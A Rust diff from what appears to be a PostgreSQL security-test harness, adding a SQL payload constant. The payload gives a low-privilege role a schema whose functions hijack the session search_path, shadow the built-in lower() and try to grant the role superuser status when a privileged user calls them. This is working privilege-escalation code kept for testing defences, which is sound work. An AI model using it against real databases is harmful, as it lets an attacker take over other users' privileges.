@@ -248,6 +248,48 @@ pub fn attack_cluster(db: &str, settings: &[&str]) -> (Cluster, Client) {
     (pg, admin)
 }
 
+/// What the deployer of `attack_cluster` brings (run it as a superuser: it creates schema `dep`
+/// for the deployer, then works as the deployer): `dep.seen` records who ran the payload
+/// (`who`, `via`); `dep.become_superuser()` tries `ALTER ROLE deployer SUPERUSER`, which only works
+/// when a superuser runs it; `dep.pwn(v)` (for expressions) also leaves `search_path = dep,
+/// pg_catalog, public` in the session that ran it, where `dep.lower()` waits for the next
+/// unqualified `lower()`; `dep.pwn_as(via)` records and tries; `dep.t` has 100 rows.
+pub const DEPLOYER_PAYLOAD: &str = r#"
+CREATE SCHEMA dep AUTHORIZATION deployer;
+SET ROLE deployer;
+CREATE TABLE dep.seen (who text, via text);
+GRANT INSERT, SELECT ON dep.seen TO PUBLIC;
+GRANT USAGE ON SCHEMA dep TO PUBLIC;
+CREATE FUNCTION dep.become_superuser() RETURNS void LANGUAGE plpgsql AS $f$
+BEGIN
+    EXECUTE 'ALTER ROLE deployer SUPERUSER';
+EXCEPTION WHEN OTHERS THEN NULL;
+END $f$;
+CREATE FUNCTION dep.pwn(v text) RETURNS text LANGUAGE plpgsql AS $f$
+BEGIN
+    INSERT INTO dep.seen VALUES (current_user::text, 'pwn');
+    PERFORM dep.become_superuser();
+    PERFORM pg_catalog.set_config('search_path', 'dep, pg_catalog, public', false);
+    RETURN v;
+END $f$;
+-- what the victim's next unqualified lower() runs once its search_path starts with dep
+CREATE FUNCTION dep.lower(text) RETURNS text LANGUAGE plpgsql AS $f$
+BEGIN
+    INSERT INTO dep.seen VALUES (current_user::text, 'lower');
+    PERFORM dep.become_superuser();
+    RETURN pg_catalog.lower($1);
+END $f$;
+-- records who ran it and through what, and tries the same
+CREATE FUNCTION dep.pwn_as(via text) RETURNS void LANGUAGE plpgsql AS $f$
+BEGIN
+    INSERT INTO dep.seen VALUES (current_user::text, via);
+    PERFORM dep.become_superuser();
+END $f$;
+CREATE TABLE dep.t (id int PRIMARY KEY, a text, b text);
+INSERT INTO dep.t SELECT g, 'A' || g, NULL FROM generate_series(1, 100) g;
+RESET ROLE;
+"#;
+
 /// Whether `role` is a superuser: what most attacks in the security tests try to make true.
 pub fn is_superuser(c: &mut Client, role: &str) -> bool {
     c.query_one("SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = $1", &[&role]).unwrap().get(0)
